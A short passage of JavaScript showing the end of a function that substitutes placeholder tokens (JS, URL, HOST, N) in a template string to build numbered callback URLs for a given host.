    .replace(/JS/g, () => bare)
    .replace(/URL\.(\w+)/g, (_, kind) => `http://HOST/${kind}/${n}`)
    .replace(/URL/g, () => `http://HOST/x/${n}`)
    .replace(/HOST/g, () => host)
    .replace(/\bN\b/g, () => String(n));
}
